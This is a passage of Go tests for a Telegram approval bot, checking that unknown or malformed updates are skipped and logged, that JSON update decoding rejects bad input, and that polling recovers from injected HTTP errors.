	r := newRig(t, nil)
	req, msgs := r.card(t, approval.Request{}, group)
	bad := r.fake.ForwardUnknownOrigin(group, alice, "look at this")
	qid := r.fake.PressButton(group, msgs[group], alice, "ab1:once:")
	if a := r.waitAnswer(t, qid); a.ShowAlert || !strings.Contains(a.Text, "Allowed") {
		t.Fatalf("the press behind the bad update: %+v", a)
	}
	if got := r.res.Request(req.ID); got.Outcome != approval.OutcomeAllowOnce {
		t.Fatalf("request %+v", got)
	}
	r.fake.WaitFor(t, 10*time.Second, "every update confirmed", func() bool { return r.fake.PendingUpdates() == 0 })
	if n := r.res.Skips(Name); n != 1 {
		t.Fatalf("%d updates counted as skipped, want 1", n)
	}
	logged := strings.Count(r.logs.String(), "telegram update skipped")
	if logged != 1 || !strings.Contains(r.logs.String(), fmt.Sprintf("update_id=%d", bad)) {
		t.Fatalf("skip logged %d time(s), want once with update_id=%d:\n%s", logged, bad, r.logs.String())
	}
}

func TestWebhookSkipsUndecodableUpdate(t *testing.T) {
	r := newRig(t, func(c *Config) { c.Mode = ModeWebhook })
	_, h := r.ch.HTTPHandler()
	srv := httptest.NewServer(h)
	defer srv.Close()
	req, msgs := r.card(t, approval.Request{}, group)
	r.fake.UseWebhook(srv.URL, testSecrets.WebhookSecret)
	r.fake.ForwardUnknownOrigin(group, alice, "look at this")
	r.waitAnswer(t, r.fake.PressButton(group, msgs[group], alice, "ab1:once:"))
	if got := r.res.Request(req.ID); got.Outcome != approval.OutcomeAllowOnce {
		t.Fatalf("the press behind the bad update: %+v", got)
	}
	if n := r.res.Skips(Name); n != 1 {
		t.Fatalf("%d updates counted as skipped, want 1", n)
	}
}

func TestDecodeUpdate(t *testing.T) {
	cases := []struct {
		name, raw string
		id        int64
		ok        bool
	}{
		{"a message", `{"update_id":7,"message":{"message_id":1,"date":1,"chat":{"id":1,"type":"private"},"text":"hi"}}`, 7, true},
		{"a newer origin type", `{"update_id":8,"message":{"message_id":1,"date":1,"chat":{"id":1,"type":"private"},"forward_origin":{"type":"future_origin","date":1}}}`, 8, false},
		{"a field of the wrong type", `{"update_id":9,"callback_query":"nope"}`, 9, false},
		{"no update_id", `{"message":{}}`, -1, false},
		{"not an object", `[1]`, -1, false},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			id, u, err := decodeUpdate([]byte(c.raw))
			if id != c.id || (err == nil) != c.ok || (u != nil) != c.ok {
				t.Fatalf("decodeUpdate = %d, %v, %v; want id %d ok %v", id, u, err, c.id, c.ok)
			}
		})
	}
}

// A failing getUpdates (a proxy's error page, a 5xx, a 429, a second poller's 409) is
// logged, reported in Health and retried after a backoff; the press waiting behind it
// still arrives.
func TestPollingRecoversFromErrors(t *testing.T) {
	cases := []telegramtest.Fault{
		{Method: "getUpdates", Code: 502, Raw: "<html>Bad Gateway</html>", Times: 2},
		{Method: "getUpdates", Code: 500, Times: 2},
		{Method: "getUpdates", Code: 429, RetryAfter: 1},
		{Method: "getUpdates", Code: 409, Description: telegramtest.ErrPollConflict},
	}
	for _, fault := range cases {
		t.Run(strconv.Itoa(fault.Code), func(t *testing.T) {
			r := newRig(t, nil)
			_, msgs := r.card(t, approval.Request{}, group)
			before := len(r.fake.Calls("getUpdates"))
			r.fake.Inject(fault)
			// Chatter ends the poll being held; the polls after it fail.
			r.fake.Say(group, &bob, "anyone around?", 0)
			want := max(fault.Times, 1)
			failed := func() int {
				n := 0
				for _, c := range r.fake.Calls("getUpdates")[before:] {
					if c.Status == fault.Code {
						n++
					}
				}
				return n
			}
			r.fake.WaitFor(t, 10*time.Second, "the failed polls", func() bool { return failed() == want })
			qid := r.fake.PressButton(group, msgs[group], alice, "ab1:once:")
			r.waitAnswer(t, qid)
			if n := len(r.res.Decisions()); n != 1 {
				t.Fatalf("%d decisions after the failed polls", n)
			}
			if n := failed(); n != want {
				t.Fatalf("%d failed polls, want %d", n, want)
			}
			if !strings.Contains(r.logs.String(), "telegram update loop error") {
				t.Fatalf("the failed poll was not logged:\n%s", r.logs.String())
			}
		})
	}
}
